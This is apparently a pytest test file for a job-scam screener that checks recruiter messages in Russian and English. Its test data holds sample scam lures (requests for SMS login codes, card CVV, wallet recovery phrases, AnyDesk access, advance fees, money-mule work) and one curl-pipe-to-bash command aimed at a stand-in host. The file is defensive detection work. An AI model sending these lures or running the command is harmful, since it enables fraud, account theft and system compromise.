from __future__ import annotations

import time
from pathlib import Path

import pytest

from autokus.rules.questions.scam import Screening, screen
from autokus.vocabulary import Said, Voice

TEXTS = Path(__file__).parent / "scam_texts"

FACTS = (
    "My name is Alex Morozov; in Russian: Алексей Морозов.",
    "I am a senior front-end developer.",
    "My current job is at Lunnik Tech.",
    "Работаю в «Ромашка».",
)


def recruiter(text: str) -> Said:
    return Said(Voice.RECRUITER, text)


def judged(text: str) -> Screening:
    return screen(text.split(" || "), facts=FACTS)


# -- one strong act is enough ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        # codes and access
        "Пришлите код из смс, без него анкета не сохранится",
        "Вам придёт пятизначный код от Telegram || скиньте сюда",
        "назови цифры, что сейчас пришли от госуслуг, надо подтвердить код",
        "Please forward me the login code you have just received from Telegram.",
        "Send the OTP, our portal needs it to link your profile",
        "Prishlite kod iz sms dlya registracii",
        "Отключите двухэтапную проверку на пару минут, CRM не может войти",
        "Войдите через Telegram по ссылке https://hr-login.example.site и подтвердите вход",
        "Sign in to the iCloud account I give you on your iPhone, we test our app there",
        "Отсканируйте QR в настройках Telegram, раздел Устройства",
        "Скиньте логин и пароль от почты, настроим переадресацию",
        "Share your wallet's recovery phrase so that payroll can add you",
        # cards and papers
        "Отправьте фото карты с двух сторон и cvv",
        "We need the card number, expiry date and the three digits on the back.",
        "Пришлите селфи с паспортом в руке, и можно начинать",
        "Send a selfie holding your ID before our first talk",
        # money out
        "Внесите залог за ноутбук, 5000 рублей, вернём с первой зарплатой",
        "You have to pay a registration fee of $45 before the interview",
        "Оплатите пропуск 900 р, реквизиты пришлю",
        "Сначала платный курс за 9 900, потом собеседование, оплатить можно картой",
        "We will send you a check, deposit it and buy the laptop from our vendor",
        "Пополните кошелёк на 20 USDT, чтобы активировать выплаты",
        "buy three Apple gift cards and send me the codes",
        # paid clicks
        "Ставьте лайки на карточки товаров, 50 рублей за каждый, выплаты ежедневно",
        "Like videos and earn 5 USD per task, withdraw daily",
        # programs
        "Поставьте AnyDesk и пришлите ID, наш админ всё настроит",
        "Let our admin connect to your laptop through TeamViewer, send the ID and password",
        "Распакуйте архив (пароль 1234) и запустите setup.exe",
        "Paste this into your terminal: curl -s https://x.example.top/i.sh | bash",
        "Отключите антивирус и запустите программу",
        "Clone our dApp right now, run npm install and connect your wallet, I'm waiting",
        "Скачайте наше приложение для созвона: https://call.example.site/setup",
        # borrowed names
        "Служба безопасности Telegram: ваш аккаунт заблокируют, пришлите код подтверждения",
        "Hi, this is your CEO, new number. Buy gift cards and keep it between us",
        # crimes
        "Оформите на себя карту и передайте курьеру, платим 10 000",
        "Clients pay into your personal account, you keep 5% and forward the rest",
        "Сдай свой телеграм в аренду на неделю, плачу 3000",
        "We'd like to rent your Upwork account, 200 USD a month",
    ],
)
def test_an_act_that_no_recruiter_asks_for_is_critical(text: str) -> None:
    found = judged(text)
    assert found.critical
    assert found.suspicious
    assert found.reason.startswith("looks like a scam: ")


@pytest.mark.parametrize(
    "text",
    [
        "Подписывайтесь на каналы и ставьте оценки, подробности у куратора",
        "Подработка с телефона, доход от 5000 в день, без опыта",
        "Part-time work from your phone, 60 minutes a day, up to $200 daily",
        "Перейдите в бота @job_start_bot и нажмите старт",
        "Жмите bit.ly/rabota1 и заполните анкету",
        "Отправьте скан паспорта, без него не назову компанию",
        "Please run our repository locally before the call and send a screenshot",
        "Это я, Алексей, пишу с чужого телефона",
        "Добрый день! Пишу из отдела кадров компании, где вы сейчас работаете.",
        "Hello, HR of your current employer here. Are you looking for a job?",
        "Есть тема с арбитражем крипты, доход 3% в день",
        "Мы не общаемся в Telegram, только в Signal, вот ник @hr_one",
        "Никому не говорите, с вами свяжется сотрудник органов",
        "Вы приняты без собеседования! Напишите «+» администратору @adm_work",
        "Голосуй за мою племянницу: golos.example.site",
        "Поделитесь клиентской базой вашего работодателя, заплатим",
    ],
)
def test_what_adds_up_is_at_least_suspicious(text: str) -> None:
    assert judged(text).suspicious


# -- what looks alike --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "Вот вакансия: https://hh.ru/vacancy/98345112, посмотрите?",
        "Скиньте, пожалуйста, резюме и ссылку на гитхаб",
        "Send me your CV and a link to your code, please",
        "Созвонимся в Zoom? Если его нет, установите или откройте в браузере",
        "The Teams link for Thursday is in the invite, see you",
        "Ссылка на Телемост https://telemost.yandex.ru/j/123, код встречи 4455",
        "Тестовое: https://github.com/acme/fe-test, сделайте форк и пришлите PR, когда будет время",
        "Clone the starter beforehand, we'll do live coding together: https://github.com/acme/live",
        "Банк, команда карт: экран реквизитов и CVV. Нужен фронтендер",
        "Пользователь вводит код из смс, эту форму и надо переписать. Был опыт?",
        "We build identity checks: users upload a passport and a selfie. Interested?",
        "Крипто-биржа, торговый терминал, React. Рассмотрите?",
        "Our wallet product needs a TypeScript lead. Worked with WalletConnect?",
        "Наш продукт даёт удалённый доступ к рабочему столу, клиент на React",
        "Соцсеть: лента, лайки, комментарии. Стек Next.js",
        "Мы оплачиваем обучение и конференции, 80 000 в год",
        "We pay for your relocation, visa fees and flights",
        "Приведи друга и получи 100 000 рублей. А сам не ищешь?",
        "Паспорт понадобится только при подписании договора в офисе",
        "Please bring your ID for the reception desk",
        "Мы никогда не просим предоплату и коды. Если попросят, это мошенники",
        "Our recruiters never ask for payments or card numbers",
        "Откликнуться можно и через бота @acme_jobs_bot, но если хотите, продолжим здесь",
        "Наш канал t.me/acme_life, почитайте, если интересно",
        "Вам удобнее тут или в WhatsApp?",
        "Давайте в WhatsApp, так быстрее",
        "Моя коллега Анна (@anna_hr) вам напишет",
        "Здравствуйте, это Алексей из «Дала Софт», писал вам весной",
        "Мой руководитель просит уточнить, что вы делали на Next.js",
        "Я CEO стартапа, ищу лид-фронтендера",
        "Чем вы занимаетесь в текущей компании?",
        "Does your current employer know that you are looking?",
        "Вижу, вы работаете в Ромашке. Почему решили сменить место?",
        "How long have you been with Lunnik Tech?",
        "Ставка 45 евро в час, оплата раз в две недели",
        "The day rate is 400 EUR. Does that fit?",
        "Зарплата два раза в месяц на карту любого банка, ДМС",
        "Скажите, какой код вы пишете чаще?",
        "Перечислите, пожалуйста, языки, на которых пишете",
        "Срочно ищем замену, выход хоть завтра. Актуально?",
        "Поздравляю, вы прошли техническое! Остался разговор с директором",
        "Проверка службы безопасности идёт два дня, от вас ничего не нужно",
        "Тестовое оплачиваем, 5000 рублей за вечер",
        "На испытательном будет наставник. Что для вас важно?",
    ],
)
def test_a_genuine_recruiter_passes(text: str) -> None:
    found = judged(text)
    assert not found.suspicious, found.signals
    assert not found.reason


def test_documents_for_a_contract_that_was_agreed_are_no_scam() -> None:
    before = [recruiter("Рады, что вы приняли оффер!"), Said(Voice.AUTOKUS, "Спасибо!")]
    ask = ["Для трудового договора нужны скан паспорта и СНИЛС, пришлите, пожалуйста"]
    assert not screen(ask, before).suspicious


# -- bursts and what was said before ---------------------------------------------------------------


def test_a_burst_is_read_as_a_whole() -> None:
    pieces = ["вы одобрены на позицию", "осталось скинуть фото карты", "с двух сторон"]
    assert screen(pieces).critical
    assert not screen(pieces[:1]).suspicious


def test_a_request_that_begins_in_the_line_before_counts_in_full() -> None:
    before = [recruiter("Вам сейчас придёт код от Telegram"), Said(Voice.AUTOKUS, "Зачем?")]
    assert screen(["Скиньте его сюда"], before).critical
    assert not screen(["Скиньте его сюда"]).critical


def test_a_clean_follow_up_of_a_scam_is_suspicious_and_not_critical() -> None:
    found = screen(["ну что, готовы?"], [recruiter("Пришлите код из смс")])
    assert found.suspicious
    assert not found.critical
    assert "earlier" in found.reason


def test_what_the_owner_has_seen_weighs_less() -> None:
    before = [recruiter("Пришлите код из смс"), Said(Voice.OWNER, "Нет. Что за вакансия?")]
    assert not screen(["Фронтенд, React, удалённо"], before).suspicious


def test_a_scam_in_small_steps_adds_up() -> None:
    steps = [recruiter("Вы приняты без собеседования"), recruiter("Подработка, 2 часа в день")]
    assert screen(["Остальное скажет куратор, напишите ему @cur_anna"], steps).suspicious


def test_the_candidates_own_words_are_no_sign() -> None:
    before = [Said(Voice.AUTOKUS, "Пришлите код из смс? Нет, спасибо.")]
    assert not screen(["Хорошо, поняла"], before).suspicious


def test_the_talk_about_work_before_excuses_what_has_no_work_in_it() -> None:
    asked = ["Выплаты сразу на карту, так удобно?"]
    assert not screen(asked, [recruiter("Ищем React-разработчика на проект")]).suspicious


# -- the owner and the employer ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "Это Алексей Морозов, ответь мне",
        "This is Alex, I lost my phone",
        "Здравствуйте, HR из Ромашки, ищем фронтендера",
        "Hi, we at Lunnik Tech are hiring a front-end lead",
    ],
)
def test_who_takes_a_name_of_the_profile_is_suspicious(text: str) -> None:
    assert judged(text).suspicious
    assert not screen([text]).suspicious


# -- reasons, figures, time -------------------------------------------------------------------------


def test_the_reason_names_the_sign_and_quotes_the_words() -> None:
    told = screen(["Пришлите код из смс"]).reason
    assert told.startswith("looks like a scam: asks for a login or confirmation code")
    assert "пришлите код из смс" in told


def test_the_sound_of_the_words_alone_is_never_critical() -> None:
    for line in lines("scams"):
        found = screen(line.split(" || "))
        certain = sum(one.weight for one in found.signals if one.name != "tone")
        assert certain >= 10 or not found.critical


def test_a_hidden_or_spread_letter_hides_nothing() -> None:
    assert screen(["Пришлите к\u200bод из с\u00adмс"]).critical
    assert screen(["Пришлите к о д из с м с"]).suspicious
    assert screen(["Пpишлитe кoд из cмc"]).critical  # Latin look-alikes


def lines(name: str) -> list[str]:
    return (TEXTS / f"{name}.txt").read_text(encoding="utf-8").splitlines()


def test_at_least_97_of_100_written_scams_are_seen() -> None:
    found = [judged(line) for line in lines("scams")]
    assert sum(one.suspicious for one in found) >= 0.97 * len(found)


def test_at_most_2_of_100_recruiters_are_taken_for_one_and_1_is_paused() -> None:
    found = [judged(line) for line in lines("recruiters")]
    assert sum(one.suspicious for one in found) <= 0.02 * len(found)
    assert sum(one.critical for one in found) <= 0.01 * len(found)


@pytest.mark.parametrize(
    "text",
    [
        "а" * 4096,
        "а1" * 2048,
        "1 " * 2048,
        "." * 4096,
        "(" * 4096,
        "(-" * 2048,
        "\n" * 4096,
        "https://" * 512,
        "a.b-" * 1024,
        "@a_" * 1365,
        "+7 900 " * 585,
        "to the " * 585,
        "пришлите код " * 315,
    ],
)
def test_no_text_takes_long(text: str) -> None:
    screen([text], facts=FACTS)
    began = time.process_time()
    screen([text], facts=FACTS)
    assert time.process_time() - began < 1  # some 0.05 s; a machine of CI may be ten times slower
